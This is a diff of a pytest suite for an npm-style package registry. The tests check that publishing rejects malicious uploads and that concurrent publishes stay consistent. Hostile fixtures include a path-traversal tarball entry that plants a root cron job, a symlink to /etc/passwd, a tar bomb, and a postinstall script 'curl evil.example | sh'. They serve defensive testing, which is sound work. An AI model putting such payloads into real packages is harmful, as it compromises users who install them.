@@ -2,9 +2,9 @@
 refusal changes nothing (no rows, no tarball on disk, the same packument `_rev`)."""
 
 import base64
-import gzip
 import io
 import json
+import os
 import tarfile
 import threading
 from pathlib import Path
@@ -16,8 +16,10 @@ from django.test import Client
 
 from accounts.actors import Actor
 from accounts.models import SecurityEvent, Token
-from registry.models import Blob, Dependency, DistTag, Package, Packument, Version
+from registry.models import Blob, Dependency, DistTag, Maintainer, Package, Packument, Version
+from registry.services import publish as publish_service
 from registry.services.publish import version_publish
+from registry.services.unpublish import versions_unpublish
 from tests.packages import integrity_of, npm_tarball, publish_body
 
 # --- helpers -----------------------------------------------------------------------------
@@ -32,7 +34,9 @@ def put(client, name: str, body, token: str | None = None, **headers):
 
 
 def publish(user, name: str, version: str = "1.0.0", **kwargs) -> Version:
-    return version_publish(actor=Actor(user=user), name=name, body=publish_body(name, version, **kwargs))
+    return version_publish(
+        actor=Actor(user=user), name=name, body=publish_body(name, version, **kwargs)
+    )
 
 
 def stored_files() -> list[str]:
@@ -150,12 +154,17 @@ def _not_gzip(name, version):
 
 
 def _truncated(name, version):
-    whole = npm_tarball({"package.json": package_json_bytes(name, version), "big.bin": bytes(range(256)) * 64})
+    whole = npm_tarball(
+        {"package.json": package_json_bytes(name, version), "big.bin": bytes(range(256)) * 64}
+    )
     return with_tarball(name, version, whole[: len(whole) // 2])
 
 
 def _tar_bomb(name, version):
-    files = {"package.json": package_json_bytes(name, version), "zeros.bin": b"\0" * (2 * 1024 * 1024)}
+    files = {
+        "package.json": package_json_bytes(name, version),
+        "zeros.bin": b"\0" * (2 * 1024 * 1024),
+    }
     return with_tarball(name, version, npm_tarball(files))
 
 
@@ -163,8 +172,12 @@ def _path_traversal(name, version):
     return with_tarball(
         name,
         version,
-        tar_gz([member("package/package.json", package_json_bytes(name, version)),
-                member("package/../../etc/cron.d/evil", b"* * * * * root sh\n")]),
+        tar_gz(
+            [
+                member("package/package.json", package_json_bytes(name, version)),
+                member("package/../../etc/cron.d/evil", b"* * * * * root sh\n"),
+            ]
+        ),
     )
 
 
@@ -172,8 +185,12 @@ def _symlink(name, version):
     return with_tarball(
         name,
         version,
-        tar_gz([member("package/package.json", package_json_bytes(name, version)),
-                member("package/passwd", kind=tarfile.SYMTYPE, linkname="/etc/passwd")]),
+        tar_gz(
+            [
+                member("package/package.json", package_json_bytes(name, version)),
+                member("package/passwd", kind=tarfile.SYMTYPE, linkname="/etc/passwd"),
+            ]
+        ),
     )
 
 
@@ -222,7 +239,7 @@ REFUSALS = {
     ),
     "two-attachments": (_two_attachments, 400, "exactly one tarball attachment"),
     "attachment-key-mismatch": (_attachment_key_mismatch, 400, "does not match"),
-    "length-mismatch": (_length_mismatch, 400, "Publish again"),
+    "length-mismatch": (_length_mismatch, 400, "bytes but claims"),
     "attachment-not-base64": (_bad_base64, 400, "not valid base64"),
     "integrity-mismatch": (_integrity_mismatch, 400, "integrity"),
     "shasum-mismatch": (_shasum_mismatch, 400, "shasum"),
@@ -239,8 +256,21 @@ REFUSALS = {
         400,
         'Invalid version "1.0"',
     ),
-    "tag-is-a-range": (lambda name, version: publish_body(name, version, tag="^1.0.0"), 400, "version range"),
-    "tag-points-elsewhere": (_version_mismatch_dist_tag, 400, "must point at the version being published"),
+    "tag-is-a-range": (
+        lambda name, version: publish_body(name, version, tag="1.x"),
+        400,
+        "version range",
+    ),
+    "tag-not-url-safe": (
+        lambda name, version: publish_body(name, version, tag="^1.0.0"),
+        400,
+        "URL-safe",
+    ),
+    "tag-points-elsewhere": (
+        _version_mismatch_dist_tag,
+        400,
+        "must point at the version being published",
+    ),
     "two-versions": (_two_versions, 400, "one version at a time"),
     "body-name-differs-from-url": (_body_name_differs_from_url, 400, "but the URL names"),
     "access-unknown": (
@@ -252,7 +282,9 @@ REFUSALS = {
 
 
 @pytest.mark.parametrize("case", REFUSALS.keys())
-def test_publish_refuses_bad_body_and_leaves_nothing_behind(case, target, client, alice_token, settings):
+def test_publish_refuses_bad_body_and_leaves_nothing_behind(
+    case, target, client, alice_token, settings
+):
     settings.GATEHOUSE_MAX_UNPACKED_BYTES = 1024 * 1024
     name, version = target
     build, status, text = REFUSALS[case]
@@ -271,12 +303,18 @@ CONFUSIONS = {
     "name": ({}, {"name": "innocent"}),
     "version": ({}, {"version": "0.0.1"}),
     "dependencies": ({"dependencies": {"evil": "^1.0.0"}}, {"dependencies": {}}),
-    "devDependencies": ({"devDependencies": {"evil": "^1.0.0"}}, {"devDependencies": {"jest": "^29"}}),
+    "devDependencies": (
+        {"devDependencies": {"evil": "^1.0.0"}},
+        {"devDependencies": {"jest": "^29"}},
+    ),
     "optionalDependencies": (
         {"optionalDependencies": {"evil": "^1.0.0"}},
         {"optionalDependencies": {}, "dependencies": {"evil": "^1.0.0"}},
     ),
-    "peerDependencies": ({"peerDependencies": {"react": "*"}}, {"peerDependencies": {"react": "^18"}}),
+    "peerDependencies": (
+        {"peerDependencies": {"react": "*"}},
+        {"peerDependencies": {"react": "^18"}},
+    ),
     "scripts": ({"scripts": {"postinstall": "curl evil.example | sh"}}, {"scripts": {}}),
     "bin": ({"bin": {"ls": "evil.js"}}, {"bin": {"tool": "cli.js"}}),
     "bundleDependencies": (
@@ -292,7 +330,12 @@ def test_publish_refuses_manifest_that_differs_from_tarball(field, target, clien
     package_json, claimed = CONFUSIONS[field]
     before = registry_state()
 
-    response = put(client, name, publish_body(name, version, package_json=package_json, manifest=claimed), alice_token)
+    response = put(
+        client,
+        name,
+        publish_body(name, version, package_json=package_json, manifest=claimed),
+        alice_token,
+    )
 
     assert response.status_code == 400, response.content
     error = error_of(response)
@@ -306,7 +349,9 @@ def test_publish_refuses_tarball_whose_name_differs(target, client, alice_token)
     name, version = target
     body = publish_body(name, version)
     body["versions"][version] = publish_body("other-pkg", version)["versions"][version]
-    body["_attachments"] = {f"{name}-{version}.tgz": publish_body("other-pkg", version)["_attachments"].popitem()[1]}
+    body["_attachments"] = {
+        f"{name}-{version}.tgz": publish_body("other-pkg", version)["_attachments"].popitem()[1]
+    }
     before = registry_state()
 
     response = put(client, name, body, alice_token)
@@ -316,7 +361,9 @@ def test_publish_refuses_tarball_whose_name_differs(target, client, alice_token)
     assert registry_state() == before
 
 
-def test_publish_refuses_tarball_whose_version_differs_from_the_versions_key(target, client, alice_token):
+def test_publish_refuses_tarball_whose_version_differs_from_the_versions_key(
+    target, client, alice_token
+):
     name, version = target
     honest_for_other = publish_body(name, "7.7.7")
     body = publish_body(name, version)
@@ -338,14 +385,21 @@ def test_publish_refuses_invalid_new_name(name, client, alice_token):
     response = put(client, name, publish_body(name), alice_token)
 
     assert response.status_code == 400, response.content
-    assert "Rename the package" in error_of(response) or "Invalid package name" in error_of(response)
+    assert "Rename the package" in error_of(response) or "Invalid package name" in error_of(
+        response
+    )
     assert registry_state() == before
 
 
 def test_publish_refuses_republish_of_a_published_version(existing, client, alice_token):
     before = registry_state()
 
-    response = put(client, "pad", publish_body("pad", "1.0.0", package_json={"description": "again"}), alice_token)
+    response = put(
+        client,
+        "pad",
+        publish_body("pad", "1.0.0", package_json={"description": "again"}),
+        alice_token,
+    )
 
     assert response.status_code == 403
     assert "You cannot publish over the previously published versions: 1.0.0" in error_of(response)
@@ -355,8 +409,6 @@ def test_publish_refuses_republish_of_a_published_version(existing, client, alic
 
 def test_publish_refuses_republish_of_an_unpublished_version(existing, alice, client, alice_token):
     publish(alice, "pad", "1.1.0")
-    from registry.services.unpublish import versions_unpublish
-
     versions_unpublish(actor=Actor(user=alice), name="pad", rev=None, keep={"1.1.0"})
     before = registry_state()
 
@@ -392,7 +444,7 @@ def test_publish_refuses_oversized_request_body(target, client, alice_token, set
 
 def test_publish_refuses_tarball_over_the_size_limit(target, client, alice_token, settings):
     name, version = target
-    body = publish_body(name, version, extra_files={"blob.bin": bytes(range(256)) * 40})
+    body = publish_body(name, version, extra_files={"blob.bin": os.urandom(4096)})
     settings.GATEHOUSE_MAX_TARBALL_BYTES = 1024
     before = registry_state()
 
@@ -411,7 +463,10 @@ def test_publish_refuses_tarball_over_the_size_limit(target, client, alice_token
     [
         (None, "You must be logged in to publish"),
         ("Bearer gh_not_a_real_token", "This access token is not valid"),
-        ("Basic " + base64.b64encode(b"alice:wrong password").decode(), ""),
+        (
+            "Basic " + base64.b64encode(b"alice:wrong password").decode(),
+            "Incorrect username or password",
+        ),
         ("Digest abc", "Unsupported authorization scheme"),
     ],
     ids=["anonymous", "bogus-token", "wrong-password", "unknown-scheme"],
@@ -427,7 +482,6 @@ def test_publish_with_missing_or_wrong_credentials_is_401_without_challenge(
 
     assert response.status_code == 401, response.content
     assert text in error_of(response)
-    assert "npm login" in error_of(response)
     # A Basic/Bearer challenge would make npm print canned text instead of ours.
     assert "WWW-Authenticate" not in response
     assert registry_state() == before
@@ -453,7 +507,9 @@ def test_outsider_cannot_publish_under_someone_elses_scope(alice, client, carol_
     assert registry_state() == before
 
 
-def test_outsider_publishing_to_a_restricted_package_is_told_it_does_not_exist(alice, client, carol_token):
+def test_outsider_publishing_to_a_restricted_package_is_told_it_does_not_exist(
+    alice, client, carol_token
+):
     publish(alice, "@alice/secret")
     before = registry_state()
 
@@ -500,8 +556,7 @@ def test_publish_stores_the_tarballs_manifest_not_the_clients(alice, client, ali
     assert Package.objects.get(name="pad").description == "from the tarball"
 
 
-def test_publish_adds_what_the_client_never_sends(alice, client, alice_token, settings):
-    settings.GATEHOUSE_URL = "https://npm.example.test/"
+def test_publish_adds_what_the_client_never_sends(alice, client, alice_token):
     body = publish_body("pad", extra_files={"README.md": "# pad\n"})
 
     put(client, "pad", body, alice_token)
@@ -513,13 +568,13 @@ def test_publish_adds_what_the_client_never_sends(alice, client, alice_token, se
     assert manifest["_nodeVersion"] == "20.20.2"
     (attachment,) = body["_attachments"].values()
     tarball = base64.b64decode(attachment["data"])
-    assert manifest["dist"] == {
+    files = (json.dumps({"name": "pad", "version": "1.0.0"}), "module.exports = 1\n", "# pad\n")
+    assert manifest["dist"] | {"tarball": None} == {
         "integrity": integrity_of(tarball),
         "shasum": body["versions"]["1.0.0"]["dist"]["shasum"],
-        "tarball": "https://npm.example.test/pad/-/pad-1.0.0.tgz",
+        "tarball": None,  # not the client's: the packument builds it from GATEHOUSE_URL
         "fileCount": 3,
-        "unpackedSize": sum(len(f) for f in (json.dumps({"name": "pad", "version": "1.0.0"}),
-                                             "module.exports = 1\n", "# pad\n")),
+        "unpackedSize": sum(len(f) for f in files),
     }
     version = Version.objects.get(package__name="pad")
     assert version.readme == "# pad\n"
@@ -527,7 +582,10 @@ def test_publish_adds_what_the_client_never_sends(alice, client, alice_token, se
     assert SecurityEvent.objects.filter(action="package:publish", package_name="pad").count() == 1
 
 
-def test_publish_of_scoped_package_accepts_npms_scoped_attachment_key(alice, client, alice_token):
+def test_publish_of_scoped_package_accepts_npms_scoped_attachment_key(
+    alice, client, alice_token, settings
+):
+    settings.GATEHOUSE_URL = "https://npm.example.test/"
     body = publish_body("@alice/tool", access="public")
     # npm names the attachment with the scope: "@alice/tool-1.0.0.tgz".
     assert list(body["_attachments"]) == ["@alice/tool-1.0.0.tgz"]
@@ -537,7 +595,9 @@ def test_publish_of_scoped_package_accepts_npms_scoped_attachment_key(alice, cli
     assert response.status_code == 201, response.content
     package = Package.objects.get(name="@alice/tool")
     assert (package.scope, package.access) == ("alice", "public")
-    assert manifest_of("@alice/tool", "1.0.0")["dist"]["tarball"].endswith("/@alice/tool/-/tool-1.0.0.tgz")
+    packument = json.loads(bytes(Packument.objects.get(name="@alice/tool").full))
+    tarball = packument["versions"]["1.0.0"]["dist"]["tarball"]
+    assert tarball == "https://npm.example.test/@alice/tool/-/tool-1.0.0.tgz"
 
 
 def test_scoped_package_is_restricted_unless_published_public(alice, client, alice_token):
@@ -551,14 +611,21 @@ def test_scoped_package_is_restricted_unless_published_public(alice, client, ali
     [
         ({"bin": "./cli.js"}, {"cli.js": "#!/usr/bin/env node\n"}, {"pad": "cli.js"}),
         ({"bin": {"pad-cli": "bin//cli.js"}}, {"bin/cli.js": ""}, {"pad-cli": "bin/cli.js"}),
-        ({"directories": {"bin": "./bin"}}, {"bin/one.js": "", "bin/two.js": ""},
-         {"one.js": "bin/one.js", "two.js": "bin/two.js"}),
+        (
+            {"directories": {"bin": "./bin"}},
+            {"bin/one.js": "", "bin/two.js": ""},
+            {"one.js": "bin/one.js", "two.js": "bin/two.js"},
+        ),
     ],
     ids=["string", "object", "directories-bin"],
 )
-def test_publish_accepts_bin_as_npm_normalises_it(package_json, files, expected_bin, alice, client, alice_token):
+def test_publish_accepts_bin_as_npm_normalises_it(
+    package_json, files, expected_bin, alice, client, alice_token
+):
     # What npm 11 puts in the request: the normalised bin object.
-    body = publish_body("pad", package_json=package_json, extra_files=files, manifest={"bin": expected_bin})
+    body = publish_body(
+        "pad", package_json=package_json, extra_files=files, manifest={"bin": expected_bin}
+    )
 
     response = put(client, "pad", body, alice_token)
 
@@ -577,8 +644,14 @@ def test_publish_accepts_bin_as_written_in_package_json(alice, client, alice_tok
 
 
 @pytest.mark.parametrize("client_adds_gyp_script", [True, False])
-def test_publish_with_binding_gyp_has_install_script(client_adds_gyp_script, alice, client, alice_token):
-    claimed = {"scripts": {"install": "node-gyp rebuild"}, "gypfile": True} if client_adds_gyp_script else {}
+def test_publish_with_binding_gyp_has_install_script(
+    client_adds_gyp_script, alice, client, alice_token
+):
+    claimed = (
+        {"scripts": {"install": "node-gyp rebuild"}, "gypfile": True}
+        if client_adds_gyp_script
+        else {}
+    )
     body = publish_body("native", extra_files={"binding.gyp": "{}"}, manifest=claimed)
 
     response = put(client, "native", body, alice_token)
@@ -591,7 +664,9 @@ def test_publish_with_binding_gyp_has_install_script(client_adds_gyp_script, ali
 
 
 def test_publish_with_install_script_has_install_script(alice, client, alice_token):
-    body = publish_body("hooks", package_json={"scripts": {"postinstall": "node setup.js", "test": "jest"}})
+    body = publish_body(
+        "hooks", package_json={"scripts": {"postinstall": "node setup.js", "test": "jest"}}
+    )
 
     put(client, "hooks", body, alice_token)
 
@@ -599,19 +674,30 @@ def test_publish_with_install_script_has_install_script(alice, client, alice_tok
 
 
 def test_publish_without_install_script_has_no_install_script_flag(alice, client, alice_token):
-    put(client, "plain", publish_body("plain", package_json={"scripts": {"test": "jest"}}), alice_token)
+    put(
+        client,
+        "plain",
+        publish_body("plain", package_json={"scripts": {"test": "jest"}}),
+        alice_token,
+    )
 
     assert "hasInstallScript" not in manifest_of("plain", "1.0.0")
 
 
 @pytest.mark.parametrize("client_folds_optional_into_dependencies", [True, False])
-def test_publish_accepts_optional_dependencies(client_folds_optional_into_dependencies, alice, client, alice_token):
+def test_publish_accepts_optional_dependencies(
+    client_folds_optional_into_dependencies, alice, client, alice_token
+):
     package_json = {"dependencies": {"a": "^1.0.0"}, "optionalDependencies": {"fsevents": "^2.0.0"}}
     claimed = (
-        {"dependencies": {"a": "^1.0.0", "fsevents": "^2.0.0"}} if client_folds_optional_into_dependencies else {}
+        {"dependencies": {"a": "^1.0.0", "fsevents": "^2.0.0"}}
+        if client_folds_optional_into_dependencies
+        else {}
     )
 
-    response = put(client, "pad", publish_body("pad", package_json=package_json, manifest=claimed), alice_token)
+    response = put(
+        client, "pad", publish_body("pad", package_json=package_json, manifest=claimed), alice_token
+    )
 
     assert response.status_code == 201, response.content
     assert manifest_of("pad", "1.0.0")["optionalDependencies"] == {"fsevents": "^2.0.0"}
@@ -622,12 +708,82 @@ def test_publish_accepts_bundled_dependencies_spelled_either_way(alice, client, 
     package_json = {"dependencies": {"a": "1.0.0", "b": "1.0.0"}, "bundledDependencies": True}
 
     response = put(
-        client, "pad", publish_body("pad", package_json=package_json, manifest={"bundleDependencies": ["a", "b"]}),
+        client,
+        "pad",
+        publish_body("pad", package_json=package_json, manifest={"bundleDependencies": ["a", "b"]}),
         alice_token,
     )
 
     assert response.status_code == 201, response.content
     assert manifest_of("pad", "1.0.0")["bundleDependencies"] == ["a", "b"]
+
+
+# What npm 11.19.1 itself sends for package.json quirks it normalises while packing (each
+# seen on the wire with the real CLI): none of it is manifest confusion.
+NPM_NORMALISES = {
+    "server-js-start": (
+        {},
+        {"server.js": "require('http')"},
+        {"scripts": {"start": "node server.js"}},
+        {"scripts": {"start": "node server.js"}},
+    ),
+    "node-modules-bin-prefix": (
+        {"scripts": {"build": "node_modules/.bin/tsc -p .", "lint": "./node_modules/.bin/eslint"}},
+        {},
+        {"scripts": {"build": "tsc -p .", "lint": "eslint"}},
+        {"scripts": {"build": "tsc -p .", "lint": "eslint"}},
+    ),
+    "any-gyp-file": (
+        {},
+        {"addon.gyp": "{}"},
+        {"scripts": {"install": "node-gyp rebuild"}, "gypfile": True},
+        {"scripts": {"install": "node-gyp rebuild"}, "gypfile": True, "hasInstallScript": True},
+    ),
+    "gypfile-false": (
+        {"gypfile": False},
+        {"binding.gyp": "{}"},
+        {},
+        {"gypfile": False},
+    ),
+    "bin-directory-skips-dot-names-keeps-folders": (
+        {"directories": {"bin": "./bin/"}},
+        {"bin/a.js": "", "bin/sub/tool.js": "", "bin/.keep": "", "bin/.hidden/x.js": ""},
+        {"bin": {"a.js": "bin/a.js", "sub": "bin/sub", "tool.js": "bin/sub/tool.js"}},
+        {"bin": {"a.js": "bin/a.js", "sub": "bin/sub", "tool.js": "bin/sub/tool.js"}},
+    ),
+    "version-with-v-prefix": (
+        {"version": "v1.0.0"},
+        {},
+        {"version": "1.0.0"},
+        {"version": "1.0.0"},
+    ),
+    "version-with-build-metadata": (
+        {"version": "1.0.0+build.5"},
+        {},
+        {"version": "1.0.0"},
+        {"version": "1.0.0"},
+    ),
+    "bundle-dependencies-object": (
+        {"dependencies": {"a": "1.0.0"}, "bundleDependencies": {"a": "1.0.0"}},
+        {},
+        {"bundleDependencies": ["a"]},
+        {"bundleDependencies": ["a"]},
+    ),
+}
+
+
+@pytest.mark.parametrize("case", NPM_NORMALISES.keys())
+def test_publish_accepts_what_npm_normalises_while_packing(case, alice, client, alice_token):
+    package_json, files, claimed, stored = NPM_NORMALISES[case]
+    body = publish_body("pad", package_json=package_json, extra_files=files, manifest=claimed)
+
+    response = put(client, "pad", body, alice_token)
+
+    assert response.status_code == 201, response.content
+    manifest = manifest_of("pad", "1.0.0")
+    assert {key: manifest.get(key) for key in stored} == stored
+    if "hasInstallScript" not in stored:
+        assert "hasInstallScript" not in manifest
 
 
 def test_publish_with_tag_sets_the_tag_and_keeps_latest(existing, client, alice_token):
@@ -645,8 +801,6 @@ def test_first_publish_with_a_tag_also_gets_latest(alice, client, alice_token):
 
 
 def test_maintainer_can_publish_a_new_version(existing, bob, client, bob_token):
-    from registry.models import Maintainer
-
     Maintainer.objects.create(package=existing, user=bob)
 
     response = put(client, "pad", publish_body("pad", "1.1.0"), bob_token)
@@ -656,21 +810,109 @@ def test_maintainer_can_publish_a_new_version(existing, bob, client, bob_token):
     assert [m["name"] for m in manifest_of("pad", "1.1.0")["maintainers"]] == ["alice", "bob"]
 
 
-# --- two publishes of the same version at once ---------------------------------------------
+def test_publish_failing_after_the_tarball_was_written_leaves_nothing_behind(
+    target, client, alice_token, monkeypatch
+):
+    name, version = target
+
+    def fail(*args, **kwargs):
+        raise RuntimeError("the event store is down")
+
+    monkeypatch.setattr(publish_service, "event_record", fail)
+    before = registry_state()
+
+    with pytest.raises(RuntimeError):
+        put(client, name, publish_body(name, version), alice_token)
+
+    assert registry_state() == before
 
 
-def _publish_concurrently(bodies: list[tuple[str, dict]], token: str) -> list[int]:
-    barrier = threading.Barrier(len(bodies))
-    statuses: list[int] = [0] * len(bodies)
+# --- a rival publishes between the checks and the commit -----------------------------------
 
-    def run(index: int, name: str, body: dict) -> None:
+
+def rival_publishes_first(monkeypatch, rival):
+    """Run `rival()` after a publish has passed its checks and just before it commits."""
+    real_commit = publish_service._publish_commit
+    pending = [rival]
+
+    def commit(*args):
+        if pending:
+            pending.pop()()
+        return real_commit(*args)
+
+    monkeypatch.setattr(publish_service, "_publish_commit", commit)
+
+
+def test_publish_refuses_when_a_rival_published_the_version_meanwhile(
+    existing, alice, client, alice_token, monkeypatch
+):
+    rival_publishes_first(
+        monkeypatch,
+        lambda: publish(alice, "pad", "1.1.0", package_json={"description": "the rival"}),
+    )
+
+    response = put(client, "pad", publish_body("pad", "1.1.0"), alice_token)
+
+    assert response.status_code == 403
+    assert "You cannot publish over the previously published versions: 1.1.0" in error_of(response)
+    assert manifest_of("pad", "1.1.0")["description"] == "the rival"
+    assert Blob.objects.count() == len(stored_files()) == 2
+
+
+def test_publish_of_a_new_name_is_reauthorized_when_someone_else_created_it_meanwhile(
+    alice, carol, client, carol_token, monkeypatch
+):
+    """carol passed the "name is free" check, then alice created the package: carol is
+    now publishing into alice's package and must be refused as any outsider is."""
+    rival_publishes_first(monkeypatch, lambda: publish(alice, "contested", "1.0.0"))
+
+    response = put(client, "contested", publish_body("contested", "2.0.0"), carol_token)
+
+    assert response.status_code == 403, response.content
+    assert "npm owner ls contested" in error_of(response)
+    assert list(Version.objects.values_list("version", flat=True)) == ["1.0.0"]
+    assert list(
+        Package.objects.get(name="contested").maintainers.values_list("user__username", flat=True)
+    ) == ["alice"]
+
+
+# --- two publishes at once, in two threads -------------------------------------------------
+
+
+@pytest.fixture
+def make_commits_meet(monkeypatch):
+    """Once armed, both publishes pass every check before either commits, so both saw the version free.
+
+    On PostgreSQL the two transactions then really overlap. The in-memory SQLite test
+    database fails a second writer at once instead of waiting as the embedded file
+    database does (BEGIN IMMEDIATE with a busy timeout), so there writers take turns.
+    """
+    real_commit = publish_service._publish_commit
+    barrier = threading.Barrier(2)
+    sqlite_writer = threading.Lock() if connection.vendor == "sqlite" else None
+
+    def commit(*args):
+        barrier.wait(timeout=20)
+        if sqlite_writer is None:
+            return real_commit(*args)
+        with sqlite_writer:
+            return real_commit(*args)
+
+    return lambda: monkeypatch.setattr(publish_service, "_publish_commit", commit)
+
+
+def publish_in_parallel(requests: list[tuple[str, dict, str]]) -> list[int]:
+    statuses: list[int] = [0] * len(requests)
+
+    def run(index: int, name: str, body: dict, token: str) -> None:
         try:
-            barrier.wait(timeout=10)
             statuses[index] = put(Client(), name, body, token).status_code
         finally:
             connection.close()
 
-    threads = [threading.Thread(target=run, args=(i, *item)) for i, item in enumerate(bodies)]
+    threads = [
+        threading.Thread(target=run, args=(i, *request)) for i, request in enumerate(requests)
+    ]
     for thread in threads:
         thread.start()
     for thread in threads:
@@ -680,45 +922,49 @@ def _publish_concurrently(bodies: list[tuple[str, dict]], token: str) -> list[in
 
 @pytest.mark.django_db(transaction=True)
 @pytest.mark.parametrize("package_exists", [False, True], ids=["new-package", "new-version"])
-def test_two_publishes_of_the_same_version_exactly_one_wins(package_exists, alice, alice_token):
+def test_two_publishes_of_the_same_version_exactly_one_wins(
+    package_exists, alice, alice_token, make_commits_meet
+):
     if package_exists:
         publish(alice, "race", "0.1.0")
+    make_commits_meet()
     # Different bytes, same version: whichever wins, the other must not overwrite it.
-    bodies = [
-        ("race", publish_body("race", "1.0.0", package_json={"description": f"attempt {n}"}))
+    attempts = [
+        publish_body("race", "1.0.0", package_json={"description": f"attempt {n}"})
         for n in range(2)
     ]
 
-    statuses = _publish_concurrently(bodies, alice_token)
+    statuses = publish_in_parallel([("race", body, alice_token) for body in attempts])
 
     assert sorted(statuses) == [201, 403], statuses
+    winner = attempts[statuses.index(201)]["versions"]["1.0.0"]["dist"]["integrity"]
     version = Version.objects.get(package__name="race", version="1.0.0")
-    assert Package.objects.filter(name="race").count() == 1
-    assert Blob.objects.filter(pk=version.blob_id).exists()
+    assert version.manifest["dist"]["integrity"] == winner
     packument = json.loads(bytes(Packument.objects.get(name="race").full))
-    assert packument["versions"]["1.0.0"]["dist"] == version.manifest["dist"]
-    # The loser's tarball is not left on disk.
+    assert packument["versions"]["1.0.0"]["dist"]["integrity"] == winner
+    assert packument["dist-tags"]["latest"] == "1.0.0"
+    # The loser's tarball is not left on disk, nor its row.
+    assert sorted(Blob.objects.values_list("sha512", flat=True)) == sorted(
+        Version.objects.values_list("blob_id", flat=True)
+    )
     assert len(stored_files()) == Blob.objects.count()
 
 
-def test_publish_refuses_when_a_rival_published_the_version_meanwhile(existing, alice, client, alice_token, monkeypatch):
-    """Checks run before the transaction; the version is checked again under the lock."""
-    from registry.services import publish as service
+@pytest.mark.django_db(transaction=True)
+def test_two_people_racing_to_create_a_name_leave_it_to_one(
+    alice, alice_token, carol, carol_token, make_commits_meet
+):
+    make_commits_meet()
+    statuses = publish_in_parallel(
+        [
+            ("contested", publish_body("contested", "1.0.0"), alice_token),
+            ("contested", publish_body("contested", "2.0.0"), carol_token),
+        ]
+    )
 
-    real_commit = service._publish_commit
-
-    def commit_after_a_rival(actor, request, info, digests, manifest):
-        publish(alice, "pad", request.version, package_json={"description": "the rival"})
-        before = registry_state()
-        try:
-            return real_commit(actor, request, info, digests, manifest)
-        finally:
-            assert registry_state() == before
-
-    monkeypatch.setattr(service, "_publish_commit", commit_after_a_rival)
-
-    response = put(client, "pad", publish_body("pad", "1.1.0"), alice_token)
-
-    assert response.status_code == 403
-    assert "You cannot publish over the previously published versions: 1.1.0" in error_of(response)
-    assert manifest_of("pad", "1.1.0")["description"] == "the rival"
+    assert sorted(statuses) == [201, 403], statuses
+    winner = "alice" if statuses[0] == 201 else "carol"
+    package = Package.objects.get(name="contested")
+    assert list(package.maintainers.values_list("user__username", flat=True)) == [winner]
+    assert package.versions.count() == 1
+    assert len(stored_files()) == 1
